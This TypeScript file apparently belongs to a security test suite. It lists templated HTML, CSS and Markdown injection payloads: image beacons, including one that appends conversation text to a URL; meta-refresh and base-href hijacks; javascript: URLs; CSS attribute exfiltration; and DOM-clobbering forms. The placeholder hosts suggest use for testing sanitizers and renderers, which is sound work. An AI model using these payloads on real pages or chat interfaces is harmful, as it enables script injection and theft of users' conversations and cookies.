import type { Vector } from '../payload.ts'

/** What fetches something as soon as it stands in a page. */
export const LOADS: Vector[] = [
  ({ from }) => `<img src=${from}>`,
  ({ from }) => `<img srcset="${from} 1x">`,
  ({ from }) => `<picture><source srcset="${from}"><img></picture>`,
  ({ from }) => `<video poster="${from}" autoplay>`,
  ({ from }) => `<video src="${from}" autoplay>`,
  ({ from }) => `<audio src="${from}" autoplay>`,
  ({ from }) => `<video><source src="${from}"><track default src="${from}"></video>`,
  ({ from }) => `<input type=image src="${from}">`,
  ({ from }) => `<body background="${from}">`,
  ({ from }) => `<table background="${from}"><td background="${from}">`,
  ({ from }) => `<svg><image href="${from}" /></svg>`,
  ({ from }) => `<svg><image xlink:href="${from}" width=9 height=9 /></svg>`,
  ({ from }) => `<svg><filter id=f><feImage href="${from}" /></filter></svg>`,
  ({ from }) => `<svg><use href="${from}#x" /></svg>`,
  ({ from }) => `<svg><rect fill="url(${from}#x)" filter="url(${from})" /></svg>`,
  ({ from }) => `<link rel=stylesheet href="${from}">`,
  ({ from }) => `<link rel=prefetch href="${from}">`,
  ({ from }) => `<link rel=preload as=image href="${from}">`,
  ({ from }) => `<link rel=modulepreload href="${from}">`,
  ({ from }) => `<link rel=dns-prefetch href="${from}">`,
  ({ from }) => `<link rel=preconnect href="${from}">`,
  ({ from }) => `<link rel=icon href="${from}">`,
  ({ from }) => `<link rel=manifest href="${from}">`,
  ({ from }) => `<link rel=prerender href="${from}">`,
  ({ from }) => `<bgsound src="${from}">`,
  ({ from }) => `<img dynsrc="${from}" lowsrc="${from}" src="${from}">`,
  ({ from }) => `<style>@import "${from}";</style>`,
  ({ from, n }) => `![pixel ${n}](${from})`,
  ({ from, n }) => `![pixel ${n}](${from}?q=words%20of%20the%20conversation "title")`,
  ({ from, n }) => `![pixel ${n}][i${n}]\n\n[i${n}]: ${from}`,
  ({ from, n }) => `![i${n}]\n\n[i${n}]: <${from}> (title)`,
  ({ from, n }) => `[![pixel ${n}](${from})](https://ok.test/${n})`,
  ({ from, n }) => `![${n}](//x${n}.canary.test/p) ![${n}](${from.replace('http:', 'HTTP:')})`,
  ({ from, n }) => `![${n}](\\\\x${n}.canary.test\\p) ![${n}](${from.replace('//', '\\\\')})`,
  ({ from, n }) => `![${n} <img src=${from}>](${from})`,
  ({ from, n }) => `![${n}](data:image/svg+xml,<svg><image href='${from}'/></svg>)`,
  ({ from, n }) => `![${n}](ftp://x${n}.canary.test/p) ![${n}](blob:${from}) ![${n}](file:///${n})`,
]

/** What leads the page, or all that it asks for, elsewhere. */
export const METAS: Vector[] = [
  ({ from }) => `<meta http-equiv="refresh" content="0;url=${from}">`,
  ({ run }) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  ({ run }) => `<META HTTP-EQUIV=refresh CONTENT="0;URL=data:text/html,<script>${run}</script>">`,
  ({ from }) => `<meta http-equiv="Set-Cookie" content="a=${from}">`,
  ({ from }) => `<meta http-equiv="Content-Security-Policy" content="img-src ${from}">`,
  ({ from }) => `<meta http-equiv="Link" content="<${from}>; rel=stylesheet">`,
  ({ from }) => `<meta name="referrer" content="unsafe-url"><img src="${from}">`,
  ({ from }) => `<base href="${from}/">`,
  ({ from }) => `<base target="_top"><base href="${from}">`,
  ({ run }) => `<base href="javascript:/a/-${run}//">`,
  ({ from, n }) => `<a ping="${from}" href="https://ok.test/${n}">${n}</a>`,
  ({ run, n }) => `<a href="javascript:${run}" target=_self autofocus>${n}</a>`,
  ({ run, n }) => `<map><area href="javascript:${run}" alt=${n} shape=default></map>`,
  ({ from }) => `<html manifest="${from}">`,
  ({ from }) => `<link rel=canonical href="${from}"><link rel=next href="${from}">`,
]

/** What styles can fetch and do. */
export const STYLES: Vector[] = [
  ({ from }) => `<style>*{background:url(${from})}</style>`,
  ({ from }) => `<style>@import url(${from});</style>`,
  ({ from }) => `<style>@font-face{font-family:x;src:url(${from})}*{font-family:x}</style>`,
  ({ from }) => `<style>input[value^=a]{background:url(${from})}</style>`,
  ({ from }) => `<p style="background:url(${from})">x</p>`,
  ({ from }) => `<p style="background-image:image-set('${from}' 1x)">x</p>`,
  ({ from }) => `<p style="list-style-image:url(${from});cursor:url(${from}),auto">x</p>`,
  ({ from }) => `<p style="content:url(${from});border-image:url(${from})">x</p>`,
  ({ from, n }) => `<p style="--x${n}:url(${from});background:var(--x${n})">x</p>`,
  ({ from }) => `<p style="background:u\\72l(${from})">x</p>`,
  ({ run }) => `<p style="width:expression(${run})">x</p>`,
  ({ run }) => `<p style="behavior:url(#default);-moz-binding:url(javascript:${run})">x</p>`,
  ({ run }) => `<style>*{}</style><img src=x onerror="${run}">`,
  ({ run }) => `}</style><script>${run}</script>`,
  ({ run }) => `<style>@keyframes k{}*{animation:k 1s}</style><b onanimationend="${run}">x`,
  ({ run }) => `<link rel=stylesheet href="data:text/css,*{x:1}" onload="${run}">`,
  ({ run }) => `<div style="position:fixed;inset:0;z-index:9999" onmouseover="${run}">x</div>`,
  ({ from }) => `<svg><style>@import url(${from});</style></svg>`,
  ({ from }) => `<style><!--</style><p title="--></style><style>@import '${from}';</style>">`,
]

/** What takes the names that the page's own scripts ask for. */
export const CLOBBERS: Vector[] = [
  ...[
    ...['app', 'root', 'conversation', 'error', 'body', 'forms', 'cookie', 'location', 'document'],
    ...['getElementById', 'querySelector', 'createElement', 'implementation', 'currentScript'],
    ...['canary', 'self', 'parent', 'top', 'fetch', 'trustedTypes', 'ownerDocument', 'attributes'],
  ].map<Vector>(
    (name) =>
      ({ run, n }) =>
        `<form id=${name} name=${name}><input id=${name} name=attributes value="${n}" autofocus onfocus="${run}"></form>`,
  ),
  ({ from, n }) => `<a id=config><a id=config name=src href="${from}">${n}</a>`,
  ({ from, n }) => `<img name=${n} id=scripts src="${from}">`,
  ({ from, n }) =>
    `<form id=x${n} action="${from}" method=post><button autofocus>${n}</button></form>`,
  ({ run, n }) => `<form action="javascript:${run}"><input type=submit value=${n}></form>`,
  ({ run, n }) => `<form><button formaction="javascript:${run}">${n}</button></form>`,
  ({ from, n }) =>
    `<iframe name=location src="${from}"></iframe><a target=location href=x>${n}</a>`,
  ({ run, n }) => `<button popovertarget=x${n} onclick="${run}">${n}</button><p popover id=x${n}>`,
  ({ run, n }) => `<input list=l${n}><datalist id=l${n}><option onclick="${run}" value=${n}>`,
]
